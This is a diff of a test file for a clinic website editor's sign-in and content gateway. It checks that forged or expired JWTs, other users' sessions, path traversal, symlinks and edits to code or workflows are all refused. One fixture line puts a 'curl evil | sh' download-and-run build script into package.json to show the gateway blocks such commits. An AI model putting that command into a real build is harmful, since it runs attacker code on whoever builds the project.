@@ -1,97 +1,524 @@
 /**
- * The editor's login with GitHub on Cloudflare Pages: the Pages Functions in functions/api/ run in Cloudflare's own
- * runtime (a second `wrangler pages dev` over public/, with the OAuth app's settings as bindings), and GitHub is
- * replaced by a stand-in on 127.0.0.1 (GITHUB_OAUTH_URL): its authorize page sends the window straight back with a
- * code, and its token endpoint answers the exchange. Nothing reaches GitHub. Checks the handshake Decap CMS expects
- * (src/admin/githubLogin.ts), that a forged or missing state never gets a token, and, in Chromium, that the built
- * editor's "Entrar com o GitHub" ends with the editor calling GitHub's API with the stand-in's token.
+ * The editor's two ways in, on Cloudflare's own runtime (a second `wrangler pages dev` over public/, with the host's
+ * settings as bindings), with stand-ins for what cannot run here: Cloudflare Access (a key set on 127.0.0.1 that
+ * signs the staff's JWTs: standIns/access.mjs) and GitHub (OAuth, a GitHub App and one repository's API:
+ * standIns/github.mjs). Everything else is the real thing: the functions, the built editor, Chromium.
+ *
+ * - The staff's e-mail sign-in and the content gateway (src/admin/staffSignIn.ts, editorSession.ts, gateway/): a
+ *   publication from the built editor is one commit touching one content file, authored by the staff member; every
+ *   request the gateway must refuse is refused with nothing written; no GitHub token ever reaches the browser; an
+ *   expired session asks to sign in again and the publication goes on; GitHub down gets a Portuguese message and
+ *   leaves the repository as it was; signing out forgets the session and ends Access's sign-in.
+ * - The developer's GitHub login (src/admin/githubLogin.ts): the OAuth handshake, a forged or missing state never
+ *   gets a token, and the built editor at /admin/?login=github logs in through the site's own functions.
  */
 import assert from "node:assert/strict";
-import { createServer } from "node:http";
+import { generateKeyPairSync } from "node:crypto";
+import { readdir } from "node:fs/promises";
 import { after, before, describe, it } from "node:test";
+import { runnerImport } from "vite";
 import { freePort, launchChromium } from "./siteKit.mjs";
+import { accessJwtHeader, startAccessStandIn } from "./standIns/access.mjs";
+import { repositoryFiles, startGitHubStandIn } from "./standIns/github.mjs";
 import { startPagesDev } from "../../scripts/lib/pages-dev.mjs";
 
-const clientId = "Iv1.teste";
-const clientSecret = "segredo-de-teste";
-const goodCode = "codigo-do-github";
-const token = "gho_token_de_teste";
+const oauth = {
+  clientId: "Iv1.teste",
+  clientSecret: "segredo-de-teste",
+  code: "codigo-do-github",
+  token: "gho_token_de_teste",
+};
+const appKeys = generateKeyPairSync("rsa", {
+  modulusLength: 2048,
+  // GitHub hands an App's private key out as PKCS#1; the functions take it as it comes.
+  privateKeyEncoding: { type: "pkcs1", format: "pem" },
+  publicKeyEncoding: { type: "spki", format: "pem" },
+});
+const app = { id: "123456", installationId: "7654321", publicKeyPem: appKeys.publicKey };
+// The built editor's repository (VITE_CMS_REPO unset at build: main.tsx's default), which the gateway serves too.
+const repository = { owner: "proprietario", name: "site-oftalmologia", branch: "main" };
+const sessionSecret = "segredo-das-sessoes-do-editor-de-teste-0123456789";
+const staff = { email: "recepcao@clinica.example", name: "Ana da Recepção" };
 
+let access;
 let github;
 let site;
 let browser;
-/** The code exchanges the stand-in answered. */
-const exchanges = [];
+let editorSession;
 
-/** GitHub's two OAuth endpoints, as far as the login uses them. */
-function startGitHubStandIn() {
-  const server = createServer(async (request, response) => {
-    const url = new URL(request.url ?? "/", "http://127.0.0.1");
-    if (request.method === "GET" && url.pathname === "/login/oauth/authorize") {
-      const back = new URL(url.searchParams.get("redirect_uri") ?? "");
-      back.searchParams.set("code", goodCode);
-      back.searchParams.set("state", url.searchParams.get("state") ?? "");
-      response.writeHead(302, { location: back.href }).end();
-      return;
-    }
-    if (request.method === "POST" && url.pathname === "/login/oauth/access_token") {
-      let body = "";
-      for await (const chunk of request) body += chunk;
-      const asked = JSON.parse(body);
-      exchanges.push(asked);
-      const good =
-        asked.client_id === clientId &&
-        asked.client_secret === clientSecret &&
-        asked.code === goodCode;
-      response
-        .writeHead(200, { "content-type": "application/json" })
-        .end(
-          JSON.stringify(
-            good
-              ? { access_token: token, token_type: "bearer", scope: "repo" }
-              : { error: "bad_verification_code", error_description: "The code is incorrect." },
-          ),
-        );
-      return;
-    }
-    response.writeHead(404).end();
-  });
-  return new Promise((resolve) =>
-    server.listen(0, "127.0.0.1", () =>
-      resolve({ url: `http://127.0.0.1:${server.address().port}`, close: () => server.close() }),
-    ),
-  );
+async function contentPaths() {
+  const folders = ["src/content", "src/content/schemas", "src/images"];
+  const paths = [];
+  for (const folder of folders)
+    for (const name of await readdir(folder))
+      if (/\.(json|jpe?g|png)$/.test(name)) paths.push(`${folder}/${name}`);
+  // Code beside the content, which the gateway must never let the editor touch.
+  return [...paths, "src/content/contentModel.ts", "package.json", "functions/api/auth.ts"];
 }
 
 before(async () => {
-  github = await startGitHubStandIn();
+  access = await startAccessStandIn();
+  github = await startGitHubStandIn({
+    oauth,
+    app,
+    repository: { ...repository, files: await repositoryFiles(await contentPaths()) },
+  });
   site = await startPagesDev({
     port: await freePort(),
     bindings: {
-      GITHUB_CLIENT_ID: clientId,
-      GITHUB_CLIENT_SECRET: clientSecret,
+      GITHUB_CLIENT_ID: oauth.clientId,
+      GITHUB_CLIENT_SECRET: oauth.clientSecret,
       GITHUB_OAUTH_URL: github.url,
+      ...access.bindings,
+      GITHUB_APP_ID: app.id,
+      GITHUB_APP_INSTALLATION_ID: app.installationId,
+      GITHUB_APP_PRIVATE_KEY: appKeys.privateKey,
+      GITHUB_API_URL: github.url,
+      EDITOR_SESSION_SECRET: sessionSecret,
+      VITE_CMS_REPO: `${repository.owner}/${repository.name}`,
+      VITE_CMS_BRANCH: repository.branch,
     },
   });
   browser = await launchChromium();
+  ({ module: editorSession } = await runnerImport("./src/admin/editorSession.ts"));
 });
 
 after(async () => {
   await browser?.close();
   await site?.close();
-  github?.close();
+  await github?.close();
+  await access?.close();
 });
 
-/** Starts a login as the editor's window does, and returns the state cookie and where it was sent. */
-async function startLogin() {
-  const response = await fetch(`${site.url}/api/auth?provider=github&site_id=x&scope=repo`, {
-    redirect: "manual",
-  });
-  const cookie = response.headers.get("set-cookie") ?? "";
-  return { response, cookie, location: new URL(response.headers.get("location") ?? "") };
+/** The session the sign-in window hands the editor, for the staff member whose Access JWT is `jwt`. */
+async function signIn(jwt) {
+  const response = await fetch(
+    `${site.url}/api/editor/session?provider=github&site_id=x&scope=repo`,
+    {
+      headers: jwt ? { [accessJwtHeader]: jwt } : {},
+    },
+  );
+  const html = await response.text();
+  const token = /authorization:github:success:\{\\"token\\":\\"([^"\\]+)\\"/.exec(html)?.[1];
+  return { response, html, token };
 }
 
-describe("/api/auth", () => {
+/** A request to the gateway, as the editor makes it, with an Access JWT and a session (either may be left out). */
+function gateway(path, { method = "GET", body, jwt, session } = {}) {
+  return fetch(`${site.url}/api/github${path}`, {
+    method,
+    headers: {
+      ...(jwt ? { [accessJwtHeader]: jwt } : {}),
+      ...(session ? { Authorization: `token ${session}` } : {}),
+      ...(body === undefined ? {} : { "Content-Type": "application/json" }),
+    },
+    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+  });
+}
+
+const repo = `/repos/${repository.owner}/${repository.name}`;
+
+/** Waits for a sign-in window to hand over and close; if it does not, says what it shows. */
+async function signInWindowCloses(popup) {
+  try {
+    await popup.waitForEvent("close", { timeout: 15_000 });
+  } catch (error) {
+    const shown = await popup.content().catch(() => "(closed)");
+    throw new Error(`The sign-in window stayed open at ${popup.url()}:\n${shown}`, {
+      cause: error,
+    });
+  }
+}
+
+describe("the e-mail sign-in and the content gateway", () => {
+  it("the sign-in window hands a signed-in staff member a session for the site's origin only, never a GitHub token", async () => {
+    const jwt = await access.mint(staff);
+    const { response, html, token } = await signIn(jwt);
+    assert.equal(response.status, 200);
+    assert.match(html, /Você entrou no editor/);
+    assert.ok(html.includes(`var origin = "${site.url}";`));
+    assert.equal(response.headers.get("cache-control"), "no-store");
+    assert.equal(response.headers.get("set-cookie"), null);
+    const [header, claims] = token
+      .split(".")
+      .slice(0, 2)
+      .map((part) => JSON.parse(Buffer.from(part, "base64url")));
+    assert.equal(header.alg, "HS256");
+    assert.equal(claims.email, staff.email);
+    assert.equal(claims.aud, "gateway-do-editor");
+    assert.equal(claims.exp - claims.iat, 3600, "an hour");
+    for (const { token: installation } of github.installationTokens)
+      assert.ok(!html.includes(installation));
+
+    const identity = await fetch(`${site.url}/api/editor/identity`, {
+      headers: { [accessJwtHeader]: jwt },
+    });
+    assert.deepEqual(await identity.json(), { email: staff.email, name: staff.name });
+  });
+
+  it("the sign-in window and the identity refuse a request Access did not sign, or signed wrong", async () => {
+    for (const jwt of [
+      undefined,
+      await access.mint({ ...staff, expiresAt: Math.floor(Date.now() / 1000) - 120 }),
+      await access.mint({ ...staff, audience: "outra-aplicacao" }),
+      access.unsigned(staff),
+    ]) {
+      const { response, html, token } = await signIn(jwt);
+      assert.equal(response.status, 401);
+      assert.equal(token, undefined);
+      assert.match(html, /Não foi possível entrar no editor/);
+      assert.match(html, /authorization:github:error:/);
+      const identity = await fetch(`${site.url}/api/editor/identity`, {
+        headers: jwt ? { [accessJwtHeader]: jwt } : {},
+      });
+      assert.equal(identity.status, 401);
+    }
+  });
+
+  it("refuses, with 401 or 403 and nothing written, every request it must not pass", async () => {
+    const jwt = await access.mint(staff);
+    const { token: session } = await signIn(jwt);
+    const now = Math.floor(Date.now() / 1000);
+    const key = new TextEncoder().encode(sessionSecret);
+    const someoneElse = {
+      email: "outra@clinica.example",
+      name: "Outra",
+      subject: "id-outra@clinica.example",
+    };
+    const theirSession = await editorSession.signSession(someoneElse, key, now);
+    const expiredSession = await editorSession.signSession(
+      { ...staff, subject: `id-${staff.email}` },
+      key,
+      now - 7200,
+    );
+    const headBefore = github.head();
+    const { sha: blob } = await (
+      await gateway(`${repo}/git/blobs`, {
+        method: "POST",
+        jwt,
+        session,
+        body: { content: Buffer.from("{}").toString("base64"), encoding: "base64" },
+      })
+    ).json();
+    const tree = (path, mode = "100644") => ({
+      method: "POST",
+      jwt,
+      session,
+      body: { base_tree: headBefore, tree: [{ path, mode, type: "blob", sha: blob }] },
+    });
+    const outside = github.commitBeside({
+      "package.json": '{"scripts":{"build":"curl evil | sh"}}',
+    });
+    const writes = () =>
+      github.requests.filter(({ method, path }) => method !== "GET" && path.startsWith("/repos/"))
+        .length;
+    const writesBefore = writes();
+
+    const attempts = [
+      ["no Access JWT", `${repo}/branches/main`, { session }, 401],
+      [
+        "an expired JWT",
+        `${repo}/branches/main`,
+        { session, jwt: await access.mint({ ...staff, expiresAt: now - 120 }) },
+        401,
+      ],
+      [
+        "a JWT for another audience",
+        `${repo}/branches/main`,
+        { session, jwt: await access.mint({ ...staff, audience: "outra-aplicacao" }) },
+        401,
+      ],
+      [
+        "a JWT from another issuer",
+        `${repo}/branches/main`,
+        {
+          session,
+          jwt: await access.mint({ ...staff, issuer: "https://outra.cloudflareaccess.com" }),
+        },
+        401,
+      ],
+      [
+        "a JWT signed by another key",
+        `${repo}/branches/main`,
+        { session, jwt: await access.mint({ ...staff, signedByStranger: true }) },
+        401,
+      ],
+      [
+        "a JWT with alg: none",
+        `${repo}/branches/main`,
+        { session, jwt: access.unsigned(staff) },
+        401,
+      ],
+      ["a good JWT with no session", `${repo}/branches/main`, { jwt }, 401],
+      [
+        "a good JWT with an expired session",
+        `${repo}/branches/main`,
+        { jwt, session: expiredSession },
+        401,
+      ],
+      [
+        "a good JWT with another person's session",
+        `${repo}/branches/main`,
+        { jwt, session: theirSession },
+        401,
+      ],
+      [
+        "a forged session",
+        `${repo}/branches/main`,
+        { jwt, session: `${session.slice(0, -4)}AAAA` },
+        401,
+      ],
+      ["a tree touching package.json", `${repo}/git/trees`, tree("package.json"), 403],
+      ["a tree touching a workflow", `${repo}/git/trees`, tree(".github/workflows/x.yml"), 403],
+      ["a tree touching functions/", `${repo}/git/trees`, tree("functions/api/auth.ts"), 403],
+      [
+        "a tree touching the content model's code",
+        `${repo}/git/trees`,
+        tree("src/content/contentModel.ts"),
+        403,
+      ],
+      ["a tree with ..", `${repo}/git/trees`, tree("src/content/../../package.json"), 403],
+      ["a tree with a symlink", `${repo}/git/trees`, tree("src/content/home.json", "120000"), 403],
+      [
+        "another repository",
+        "/repos/outra-pessoa/outro-site/git/trees",
+        tree("src/content/home.json"),
+        403,
+      ],
+      [
+        "another repository's reads",
+        "/repos/outra-pessoa/outro-site/branches/main",
+        { jwt, session },
+        403,
+      ],
+      [
+        "another branch",
+        `${repo}/git/refs/heads/outro`,
+        { method: "PATCH", jwt, session, body: { sha: outside } },
+        403,
+      ],
+      ["a branch deletion", `${repo}/git/refs/heads/main`, { method: "DELETE", jwt, session }, 403],
+      ["a tag deletion", `${repo}/git/refs/tags/v1`, { method: "DELETE", jwt, session }, 403],
+      [
+        "a forced update",
+        `${repo}/git/refs/heads/main`,
+        { method: "PATCH", jwt, session, body: { sha: outside, force: true } },
+        403,
+      ],
+      [
+        "a branch update to a commit made outside the editor (package.json)",
+        `${repo}/git/refs/heads/main`,
+        { method: "PATCH", jwt, session, body: { sha: outside } },
+        403,
+      ],
+      ["a read of code", `${repo}/git/trees/main:functions`, { jwt, session }, 403],
+      ["a read of the whole tree", `${repo}/git/trees/main:`, { jwt, session }, 403],
+      ["anything else of GitHub's", "/user/repos", { jwt, session }, 403],
+    ];
+    for (const [name, path, options, status] of attempts) {
+      const response = await gateway(path, options);
+      assert.equal(response.status, status, name);
+      const { message } = await response.json();
+      assert.ok(
+        typeof message === "string" && message.length > 10,
+        `${name}: a message (${message})`,
+      );
+      assert.equal(response.headers.get("set-cookie"), null);
+    }
+    assert.equal(github.head(), headBefore, "the branch did not move");
+    assert.equal(writes(), writesBefore, "no write reached GitHub");
+    assert.equal(
+      github.file("package.json"),
+      (await repositoryFiles(["package.json"]))["package.json"].toString(),
+    );
+  });
+  it("GitHub refusing the App: a Portuguese message, and nothing written", async () => {
+    const jwt = await access.mint(staff);
+    const { token: session } = await signIn(jwt);
+    const headBefore = github.head();
+    github.failures.refusing = true;
+    try {
+      const response = await gateway(`${repo}/git/blobs`, {
+        method: "POST",
+        jwt,
+        session,
+        body: { content: Buffer.from("{}").toString("base64"), encoding: "base64" },
+      });
+      assert.equal(response.status, 502);
+      assert.match(
+        (await response.json()).message,
+        /O GitHub recusou o acesso do site\. Nada foi publicado/,
+      );
+    } finally {
+      github.failures.refusing = false;
+    }
+    assert.equal(github.head(), headBefore);
+  });
+});
+
+describe("the e-mail sign-in in the built editor", () => {
+  /** The editor in a fresh browser, with Access's JWT on every request to the site, as Access adds it. */
+  async function openEditor() {
+    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
+    const jwt = await access.mint(staff);
+    await context.route(`${site.url}/**`, (route) =>
+      route.continue({
+        headers: { ...route.request().headers(), [accessJwtHeader.toLowerCase()]: jwt },
+      }),
+    );
+    // No decap-server on this machine's port 8081: the editor uses the gateway.
+    await context.route("http://localhost:8081/**", (route) => route.abort());
+    const page = await context.newPage();
+    const seen = { bodies: [], complaints: [], errors: [], refused: [] };
+    const record = (target) => {
+      target.on("response", async (response) => {
+        if (response.url().startsWith(`${site.url}/api/github/`) && response.status() >= 400)
+          seen.refused.push(
+            `${response.status()} ${response.request().method()} ${response.url()}`,
+          );
+        seen.bodies.push(JSON.stringify(await response.allHeaders()));
+        seen.bodies.push(await response.text().catch(() => ""));
+      });
+      target.on("console", (message) => {
+        if (/Content Security Policy/i.test(message.text())) seen.complaints.push(message.text());
+      });
+    };
+    record(page);
+    context.on("page", record);
+    page.on("pageerror", (error) => seen.errors.push(String(error)));
+    await page.goto(`${site.url}/admin/`);
+    const [popup] = await Promise.all([
+      context.waitForEvent("page"),
+      page.getByRole("button", { name: "Entrar com o seu e-mail" }).click(),
+    ]);
+    await signInWindowCloses(popup);
+    // Signed in: the editor lists the site's pages.
+    await page.getByRole("link", { name: /Página inicial/ }).waitFor();
+    return { context, page, seen };
+  }
+
+  async function publish(page) {
+    await page.getByRole("button", { name: "Publicar" }).click();
+    await page.getByRole("menuitem", { name: "Publicar agora" }).click();
+  }
+
+  it("a staff member changes the home page's title and publishes: one commit, one file, by their e-mail; no GitHub token in the browser", async () => {
+    const { context, page, seen } = await openEditor();
+    await page.getByText(`Você entrou como ${staff.email}`).waitFor();
+    const headBefore = github.head();
+    await page.getByRole("link", { name: /Página inicial/ }).click();
+    const title = "Cuidado completo e atencioso para a saúde dos seus olhos";
+    await page.getByRole("textbox", { name: "Título principal" }).first().fill(title);
+    await publish(page);
+    await page.getByText("Publicado", { exact: true }).waitFor();
+
+    const commit = github.commit(github.head());
+    assert.deepEqual(commit.parents, [headBefore], "one commit on top of the head");
+    assert.deepEqual(commit.files, ["src/content/home.json"]);
+    assert.equal(commit.author.email, staff.email);
+    assert.equal(commit.author.name, staff.name);
+    assert.equal(JSON.parse(github.file("src/content/home.json")).hero.title, title);
+
+    const installation = github.installationTokens.map(({ token }) => token);
+    assert.ok(installation.length > 0, "the gateway used the App's installation token");
+    const storage = await page.evaluate(() =>
+      JSON.stringify({ ...localStorage, ...sessionStorage }),
+    );
+    const cookies = JSON.stringify(await context.cookies());
+    const html = await page.content();
+    for (const token of installation)
+      for (const [where, text] of [
+        ["storage", storage],
+        ["cookies", cookies],
+        ["page", html],
+        ["responses", seen.bodies.join("\n")],
+      ])
+        assert.ok(!text.includes(token), `the installation token is not in the browser's ${where}`);
+    assert.deepEqual(seen.complaints, []);
+    assert.deepEqual(seen.errors, []);
+    // Everything the editor asked of the gateway, from signing in to publishing, was let through.
+    assert.deepEqual(seen.refused, []);
+    await context.close();
+  });
+
+  it("an expired session asks to sign in again, and the publication goes on with what was typed", async () => {
+    const { context, page } = await openEditor();
+    await page.getByRole("link", { name: /Página inicial/ }).click();
+    const lead = "Consultas, exames e cirurgias, com tempo para ouvir e explicar cada passo.";
+    await page.getByRole("textbox", { name: "Texto abaixo do título" }).first().fill(lead);
+    // An hour later: the session the editor holds has expired.
+    const expired = await editorSession.signSession(
+      { ...staff, subject: `id-${staff.email}` },
+      new TextEncoder().encode(sessionSecret),
+      Math.floor(Date.now() / 1000) - 7200,
+    );
+    await page.evaluate((token) => {
+      const user = JSON.parse(localStorage.getItem("decap-cms-user"));
+      localStorage.setItem("decap-cms-user", JSON.stringify({ ...user, token }));
+    }, expired);
+    await publish(page);
+    const dialog = page.getByRole("dialog", { name: "Sua sessão no editor expirou" });
+    await dialog.waitFor();
+    assert.equal(
+      await page.getByRole("textbox", { name: "Texto abaixo do título" }).first().inputValue(),
+      lead,
+    );
+    const [popup] = await Promise.all([
+      context.waitForEvent("page"),
+      dialog.getByRole("button", { name: "Entrar de novo" }).click(),
+    ]);
+    await signInWindowCloses(popup);
+    await page.getByText("Publicado", { exact: true }).waitFor();
+    assert.equal(JSON.parse(github.file("src/content/home.json")).hero.lead, lead);
+    assert.equal(github.commit(github.head()).author.email, staff.email);
+    await context.close();
+  });
+
+  it("GitHub down: the editor says so in Portuguese, and the repository stays as it was", async () => {
+    const { context, page } = await openEditor();
+    await page.getByRole("link", { name: /Página inicial/ }).click();
+    await page
+      .getByRole("textbox", { name: "Linha pequena acima do título" })
+      .first()
+      .fill("Oftalmologia");
+    const headBefore = github.head();
+    github.failures.down = true;
+    try {
+      await publish(page);
+      await page.getByText(/O GitHub não respondeu\. Nada foi publicado/).waitFor();
+    } finally {
+      github.failures.down = false;
+    }
+    assert.equal(github.head(), headBefore);
+    assert.equal(
+      JSON.parse(github.file("src/content/home.json")).hero.eyebrow,
+      "Oftalmologia clínica e cirúrgica",
+    );
+    await context.close();
+  });
+
+  it("'Sair' forgets the session in this browser and ends Access's sign-in", async () => {
+    const { context, page } = await openEditor();
+    await page
+      .getByRole("complementary", { name: "Sua entrada no editor" })
+      .getByRole("button", { name: "Sair" })
+      .click();
+    await page.waitForURL(`${site.url}/cdn-cgi/access/logout`);
+    assert.equal(await page.evaluate(() => localStorage.getItem("decap-cms-user")), null);
+    await context.close();
+  });
+});
+
+describe("the developer's GitHub login: /api/auth", () => {
+  /** Starts a login as the editor's window does, and returns the state cookie and where it was sent. */
+  async function startLogin() {
+    const response = await fetch(`${site.url}/api/auth?provider=github&site_id=x&scope=repo`, {
+      redirect: "manual",
+    });
+    const cookie = response.headers.get("set-cookie") ?? "";
+    return { response, cookie, location: new URL(response.headers.get("location") ?? "") };
+  }
+
   it("sends the window to GitHub's authorize page with the client id, the repo scope and a fresh state", async () => {
     const first = await startLogin();
     assert.equal(first.response.status, 302);
@@ -100,7 +527,7 @@ describe("/api/auth", () => {
       first.location.origin + first.location.pathname,
       `${github.url}/login/oauth/authorize`,
     );
-    assert.equal(first.location.searchParams.get("client_id"), clientId);
+    assert.equal(first.location.searchParams.get("client_id"), oauth.clientId);
     assert.equal(first.location.searchParams.get("scope"), "repo");
     assert.equal(first.location.searchParams.get("redirect_uri"), `${site.url}/api/callback`);
     const state = first.location.searchParams.get("state") ?? "";
@@ -114,11 +541,9 @@ describe("/api/auth", () => {
     const second = await startLogin();
     assert.notEqual(second.location.searchParams.get("state"), state, "never the same state twice");
   });
-});
 
-describe("/api/callback", () => {
   /** The callback as GitHub's redirect reaches it, with this browser's cookie (or none). */
-  function callback({ state, cookie, code = goodCode }) {
+  function callback({ state, cookie, code = oauth.code }) {
     const url = new URL(`${site.url}/api/callback`);
     if (code) url.searchParams.set("code", code);
     if (state !== undefined) url.searchParams.set("state", state);
@@ -128,7 +553,7 @@ describe("/api/callback", () => {
   it("a forged, missing or cookieless state gets an error page, and the code is never exchanged", async () => {
     const { cookie, location } = await startLogin();
     const state = location.searchParams.get("state");
-    const exchangesBefore = exchanges.length;
+    const exchangesBefore = github.exchanges.length;
     for (const attempt of [
       { state: "forjado", cookie },
       { state: `${state}x`, cookie },
@@ -139,26 +564,26 @@ describe("/api/callback", () => {
       assert.equal(response.status, 403, JSON.stringify(attempt));
       const html = await response.text();
       assert.match(html, /Não foi possível entrar com o GitHub/);
-      assert.doesNotMatch(html, new RegExp(token));
+      assert.doesNotMatch(html, new RegExp(oauth.token));
       assert.match(html, /authorization:github:error:/);
     }
-    assert.equal(exchanges.length, exchangesBefore, "no code was exchanged");
+    assert.equal(github.exchanges.length, exchangesBefore, "no code was exchanged");
   });
 
   it("the right state: the code is exchanged, and the page hands the token to the site's own origin only", async () => {
     const { cookie, location } = await startLogin();
     const response = await callback({ state: location.searchParams.get("state"), cookie });
     assert.equal(response.status, 200);
-    assert.deepEqual(exchanges.at(-1), {
-      client_id: clientId,
-      client_secret: clientSecret,
-      code: goodCode,
+    assert.deepEqual(github.exchanges.at(-1), {
+      client_id: oauth.clientId,
+      client_secret: oauth.clientSecret,
+      code: oauth.code,
       redirect_uri: `${site.url}/api/callback`,
     });
     const html = await response.text();
     assert.ok(
       html.includes(
-        `authorization:github:success:{\\"token\\":\\"${token}\\",\\"provider\\":\\"github\\"}`,
+        `authorization:github:success:{\\"token\\":\\"${oauth.token}\\",\\"provider\\":\\"github\\"}`,
       ),
     );
     assert.ok(html.includes(`var origin = "${site.url}";`));
@@ -184,12 +609,10 @@ describe("/api/callback", () => {
     assert.equal(response.status, 502);
     const html = await response.text();
     assert.match(html, /The code is incorrect/);
-    assert.doesNotMatch(html, new RegExp(token));
+    assert.doesNotMatch(html, new RegExp(oauth.token));
   });
-});
 
-describe("in the built editor", () => {
-  it("'Entrar com o GitHub' logs in through the site's own functions: the editor then calls GitHub with the token", async () => {
+  it("in the built editor, /admin/?login=github's 'Entrar com o GitHub' logs in through the site's own functions", async () => {
     const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
     const authorizations = [];
     // GitHub's API is the one thing that cannot run here: answer it, and keep what the editor sent.
@@ -201,6 +624,7 @@ describe("in the built editor", () => {
         body: '{"message":"Bad credentials"}',
       });
     });
+    await context.route("http://localhost:8081/**", (route) => route.abort());
     const page = await context.newPage();
     const complaints = [];
     page.on("console", (message) => {
@@ -212,17 +636,19 @@ describe("in the built editor", () => {
         if (/Content Security Policy/i.test(message.text())) complaints.push(message.text());
       }),
     );
-    await page.goto(`${site.url}/admin/`);
+    await page.goto(`${site.url}/admin/?login=github`);
     const [popup] = await Promise.all([
       context.waitForEvent("page"),
       page.getByRole("button", { name: "Entrar com o GitHub" }).click(),
     ]);
-    await popup.waitForEvent("close", { timeout: 15_000 });
+    await signInWindowCloses(popup);
     const start = Date.now();
     while (!authorizations.length && Date.now() - start < 15_000)
       await new Promise((resolve) => setTimeout(resolve, 100));
     assert.ok(
-      authorizations.some((header) => header === `token ${token}` || header === `Bearer ${token}`),
+      authorizations.some(
+        (header) => header === `token ${oauth.token}` || header === `Bearer ${oauth.token}`,
+      ),
       `the editor called GitHub with the token, sent: ${JSON.stringify(authorizations)}`,
     );
     assert.deepEqual(complaints, []);
